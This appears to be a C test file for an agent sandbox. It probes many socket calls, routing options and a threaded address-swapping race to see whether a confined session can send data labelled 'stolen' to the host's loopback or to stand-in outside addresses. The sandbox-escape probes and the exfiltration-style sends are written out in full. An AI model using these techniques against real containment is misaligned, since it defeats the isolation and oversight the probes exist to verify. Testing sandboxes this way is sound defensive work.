/* Sockets of a session that shares the host's network, and what each could be made to do past the gate. */
#include "attack.h"
#include <arpa/inet.h>
#include <linux/netlink.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>

static struct sockaddr_in at(const char *host, long port)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	inet_pton(AF_INET, host, &address.sin_addr);
	return address;
}

static long opened(int family, int type, int protocol)
{
	int socket_ = socket(family, type, protocol);
	if (socket_ >= 0)
		close(socket_);
	return socket_;
}

static long bound(int type, const char *host)
{
	struct sockaddr_in own = at(host, 0);
	int socket_ = socket(AF_INET, type, 0);
	return bind(socket_, (struct sockaddr *)&own, sizeof own);
}

/* One message by `sendmsg`, or as the one of several, with what is put beside it. */
static long message(int socket_, struct sockaddr_in *to, void *control, size_t length, int several)
{
	struct iovec piece = { "stolen", 6 };
	struct mmsghdr one = { .msg_hdr = { .msg_name = to, .msg_namelen = to ? sizeof *to : 0, .msg_iov = &piece, .msg_iovlen = 1,
					    .msg_control = control, .msg_controllen = length } };
	return several ? sendmmsg(socket_, &one, 1, 0) : sendmsg(socket_, &one.msg_hdr, 0);
}

static void datagrams_past(long port)
{
	struct sockaddr_in loopback = at("127.0.0.1", port), away = at("192.0.2.1", 443), nobody = { .sin_family = AF_UNSPEC };
	struct sockaddr_in resolver = at("192.0.2.53", 53), any = at("0.0.0.0", 0);
	int socket_ = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
	tell("sendto", sendto(socket_, "stolen", 6, 0, (struct sockaddr *)&loopback, sizeof loopback));
	tell("sendto-away", sendto(socket_, "stolen", 6, 0, (struct sockaddr *)&away, sizeof away));
	tell("sendmsg", message(socket_, &loopback, NULL, 0, 0));
	tell("sendmmsg", message(socket_, &loopback, NULL, 0, 1));
	tell("connect", connect(socket_, (struct sockaddr *)&loopback, sizeof loopback));
	tell("write", write(socket_, "stolen", 6));
	/* What a socket was told before would go with whatever is sent on it after. */
	unsigned char route[12] = { 131, 11, 4, 127, 0, 0, 1, 127, 0, 0, 1, 0 };
	tell("route", setsockopt(socket_, IPPROTO_IP, IP_OPTIONS, route, sizeof route));
	tell("device", setsockopt(socket_, SOL_SOCKET, SO_BINDTODEVICE, "lo", 2));
	/* Connected to a resolver and nobody again, it is bound no further. */
	tell("neighbour-resolver", connect(socket_, (struct sockaddr *)&resolver, sizeof resolver));
	tell("neighbour-nobody", connect(socket_, (struct sockaddr *)&nobody, sizeof nobody));
	tell("bind-after", bind(socket_, (struct sockaddr *)&any, sizeof any));
	tell("sendto-after", sendto(socket_, "stolen", 6, 0, (struct sockaddr *)&loopback, sizeof loopback));
}

/* A lookup (RFC 1035, section 4.1) on a socket that is connected to nobody. */
static void looked_up(void)
{
	static const char question[] = "\0\7\1\0\0\1\0\0\0\0\0\0\5other\4test\0\0\1\0\1";
	struct sockaddr_in resolver = at("192.0.2.53", 53);
	struct timeval limit = { .tv_sec = 10 };
	char answer[512];
	int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
	setsockopt(socket_, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
	sendto(socket_, question, sizeof question - 1, 0, (struct sockaddr *)&resolver, sizeof resolver);
	tell("neighbour-lookup", recv(socket_, answer, sizeof answer, 0));
}

/* Both ends of a unix socket: what is sent for a caller comes as the caller sent it. */
static void neighbours(void)
{
	int ends[2], through[2], got = -1;
	char text[16] = "", space[CMSG_SPACE(sizeof(int))] = "";
	struct iovec pieces[2] = { { "on", 2 }, { "ce", 2 } }, into = { text, sizeof text };
	socketpair(AF_UNIX, SOCK_STREAM, 0, ends);
	if (pipe(through) < 0)
		return;
	struct msghdr sent = { .msg_iov = pieces, .msg_iovlen = 2, .msg_control = space, .msg_controllen = sizeof space };
	struct cmsghdr *rights = CMSG_FIRSTHDR(&sent);
	rights->cmsg_level = SOL_SOCKET, rights->cmsg_type = SCM_RIGHTS, rights->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(rights), &through[1], sizeof(int));
	tell("neighbour-sendmsg", sendmsg(ends[0], &sent, 0) == 4 ? 0 : -1);
	struct msghdr received = { .msg_iov = &into, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space };
	long length = recvmsg(ends[1], &received, 0);
	memcpy(&got, CMSG_DATA(CMSG_FIRSTHDR(&received)), sizeof(int));
	errno = EBADMSG;
	tell("neighbour-text", length == 4 && memcmp(text, "once", 4) == 0 ? 0 : -1);
	tell("neighbour-rights", write(got, "x", 1));
	struct mmsghdr two[2] = { { .msg_hdr = { .msg_iov = pieces, .msg_iovlen = 1 } }, { .msg_hdr = { .msg_iov = pieces, .msg_iovlen = 2 } } };
	int count = sendmmsg(ends[0], two, 2, 0);
	errno = EBADMSG;
	tell("neighbour-sendmmsg", count == 2 && two[0].msg_len == 2 && two[1].msg_len == 4 ? 0 : -1);
	close(ends[1]);
	signal(SIGPIPE, SIG_IGN);
	long broken = message(ends[0], NULL, NULL, 0, 0);
	tell("neighbour-broken", broken < 0 && errno == EPIPE ? 0 : -1);
	struct sockaddr_un name = { .sun_family = AF_UNIX, .sun_path = "listening" };
	int server = socket(AF_UNIX, SOCK_STREAM, 0);
	tell("neighbour-bind", bind(server, (struct sockaddr *)&name, sizeof name));
	tell("neighbour-listen", listen(server, 1));
	/* A name that lies in no directory leads to nobody but the session. */
	struct sockaddr_un nameless = { .sun_family = AF_UNIX };
	int length_ = snprintf(nameless.sun_path + 1, sizeof nameless.sun_path - 1, "agentguard-own-%d", (int)getpid());
	socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + (size_t)length_);
	int own = socket(AF_UNIX, SOCK_STREAM, 0);
	bind(own, (struct sockaddr *)&nameless, size);
	listen(own, 1);
	tell("neighbour-nameless", connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&nameless, size));
}

/* A connection that is given up is one no more. */
static void disconnected(void)
{
	struct sockaddr_in away = at("203.0.113.7", 80), nobody = { .sin_family = AF_UNSPEC };
	socklen_t length = sizeof away;
	int stream = socket(AF_INET, SOCK_STREAM, 0);
	tell("neighbour-connect", connect(stream, (struct sockaddr *)&away, sizeof away));
	long result = connect(stream, (struct sockaddr *)&nobody, sizeof nobody);
	long peer = getpeername(stream, (struct sockaddr *)&away, &length);
	tell("neighbour-given-up", result == 0 && peer < 0 && errno == ENOTCONN ? 0 : -1);
}

/* turned PORT: every other way to that port of the host's loopback, and what has to work beside. */
int turned(int argc, char **argv)
{
	(void)argc;
	long port = number(argv[0]);
	struct sockaddr_in loopback = at("127.0.0.1", port);
	int stream = socket(AF_INET, SOCK_STREAM, 0), on = 1;
	int six = socket(AF_INET6, SOCK_STREAM, 0);
	tell("listen", listen(socket(AF_INET, SOCK_STREAM, 0), 1));
	tell("listen6", listen(socket(AF_INET6, SOCK_STREAM, 0), 1));
	tell("bind", bound(SOCK_STREAM, "0.0.0.0"));
	tell("bind-loopback", bound(SOCK_STREAM, "127.0.0.1"));
	tell("bind-datagrams", bound(SOCK_DGRAM, "0.0.0.0"));
	tell("fastopen", sendto(stream, "stolen", 6, MSG_FASTOPEN, (struct sockaddr *)&loopback, sizeof loopback));
	struct iovec piece = { "stolen", 6 };
	struct mmsghdr one = { .msg_hdr = { .msg_name = &loopback, .msg_namelen = sizeof loopback, .msg_iov = &piece, .msg_iovlen = 1 } };
	tell("fastopen-message", sendmsg(stream, &one.msg_hdr, MSG_FASTOPEN));
	tell("fastopen-messages", sendmmsg(stream, &one, 1, MSG_FASTOPEN));
	tell("fastopen-option", setsockopt(stream, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on));
	unsigned char route[12] = { 131, 11, 4, 192, 0, 2, 1, 127, 0, 0, 1, 0 };
	tell("route-stream", setsockopt(stream, IPPROTO_IP, IP_OPTIONS, route, sizeof route));
	tell("route6", setsockopt(six, IPPROTO_IPV6, IPV6_RTHDR, route, 0));
	tell("interface", setsockopt(stream, IPPROTO_IP, IP_UNICAST_IF, &on, sizeof on));
	tell("index", setsockopt(stream, SOL_SOCKET, 62 /* SO_BINDTOIFINDEX */, &on, sizeof on));
	tell("seqpacket", opened(AF_INET, SOCK_SEQPACKET, 0));
	tell("dccp", opened(AF_INET, 6, 0));
	tell("ping", opened(AF_INET, SOCK_DGRAM, IPPROTO_ICMP));
	tell("ping6", opened(AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6));
	tell("lite", opened(AF_INET, SOCK_DGRAM, 136));
	tell("links", opened(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE));
	datagrams_past(port);
	int kept = socket(AF_INET, SOCK_DGRAM, 0), closed = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	tell("neighbour-kept", fcntl(kept, F_GETFD) == 0 ? 0 : -1);
	tell("neighbour-closed", fcntl(closed, F_GETFD) == FD_CLOEXEC ? 0 : -1);
	tell("neighbour-delay", setsockopt(stream, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on));
	looked_up();
	neighbours();
	disconnected();
	return 0;
}

static struct sockaddr_in shared;
static int swapped, datagrams_, pair[2];
static atomic_int is_over;

/* Writes one address, mostly, and then the other, and puts one socket and then the other in a place, for as long as it
 * takes. */
static void *rewrite(void *addresses)
{
	const struct sockaddr_in *both = addresses;
	for (unsigned long each = 0; !atomic_load(&is_over); each++) {
		memcpy(&shared, &both[each % 16 == 0], sizeof shared);
		dup2(each & 2 ? datagrams_ : pair[0], swapped);
	}
	return NULL;
}

/* turned-race PORT TIMES HOST: connects, and sends, to where one may while another thread makes that a port of the
 * host's. */
int turned_race(int argc, char **argv)
{
	(void)argc;
	long times = number(argv[1]), done = 0, sent = 0;
	struct addrinfo hints = { .ai_socktype = SOCK_STREAM, .ai_family = AF_INET }, *found;
	if (getaddrinfo(argv[2], "80", &hints, &found) != 0)
		return 1;
	struct sockaddr_in streams[2] = { *(struct sockaddr_in *)found->ai_addr, at("127.0.0.1", number(argv[0])) };
	struct sockaddr_in lookups[2] = { at("203.0.113.7", 53), at("127.0.0.1", number(argv[0])) };
	pthread_t thread;
	datagrams_ = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
	socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair);
	swapped = dup(pair[0]);
	pthread_create(&thread, NULL, rewrite, streams);
	for (long each = 0; each < times; each++) {
		int socket_ = socket(AF_INET, SOCK_STREAM, 0);
		done += connect(socket_, (struct sockaddr *)&shared, sizeof shared) == 0;
		close(socket_);
	}
	atomic_store(&is_over, 1);
	pthread_join(thread, NULL);
	atomic_store(&is_over, 0);
	pthread_create(&thread, NULL, rewrite, lookups);
	for (long each = 0; each < times; each++) {
		struct iovec piece = { "stolen", 6 };
		struct msghdr one = { .msg_name = &shared, .msg_namelen = sizeof shared, .msg_iov = &piece, .msg_iovlen = 1 };
		static char taken[4096];
		sent += sendmsg(swapped, &one, 0) == 6;
		sent += sendto(datagrams_, "stolen", 6, 0, (struct sockaddr *)&shared, sizeof shared) == 6;
		while (read(pair[1], taken, sizeof taken) > 0)
			;
	}
	atomic_store(&is_over, 1);
	pthread_join(thread, NULL);
	printf("connected %ld\nsent %ld\n", done, sent);
	return 0;
}
